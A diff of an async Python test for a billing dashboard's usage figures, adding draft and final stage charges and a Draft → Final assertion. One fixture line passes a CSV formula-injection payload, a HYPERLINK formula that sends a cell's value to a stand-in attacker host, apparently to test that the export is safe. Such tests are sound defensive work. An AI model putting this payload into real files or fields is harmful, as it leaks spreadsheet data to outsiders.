@@ -53,8 +53,8 @@ async def test_signed_out_every_page_sends_to_the_front_page(site: Site) -> None
 
 async def test_an_admin_signs_in_and_the_figures_equal_usage(site: Site) -> None:
     """Overview, Spend and the CSV export add up to /usage's month, to the micro-cent."""
-    await site.charge("0.35", prompt="a red kite", kind=Kind.VIDEO, model="kling")
-    await site.charge("1.000001", user_id=site.owner_id)
+    await site.charge("0.35", prompt="a red kite", kind=Kind.VIDEO, model="kling", stage="draft")
+    await site.charge("1.000001", user_id=site.owner_id, stage="final")
     await site.charge("12.5", prompt='=HYPERLINK("http://evil.example/?"&A1,"click")')
     await site.charge("99", guild_id=site.other_guild_id)  # another server's: never counted
     site.clock.advance(3600)
@@ -74,6 +74,8 @@ async def test_an_admin_signs_in_and_the_figures_equal_usage(site: Site) -> None
     assert Decimal(page_figure(spend, "usage-month")) == dollars(report.month_cents)
     assert Decimal(page_figure(spend, "period-total")) == dollars(report.month_cents)
     assert "<svg" in spend and "By model" in spend and "kling" in spend
+    # Draft → Final apart (docs/creative.md): the draft's $0.35, the Final's $0.01.
+    assert "Draft → Final" in spend and "Drafts" in spend and "Finals" in spend
 
     ledger = await browser.text(f"/servers/{site.guild_id}/ledger")
     assert Decimal(page_figure(ledger, "ledger-total")) == dollars(report.month_cents)
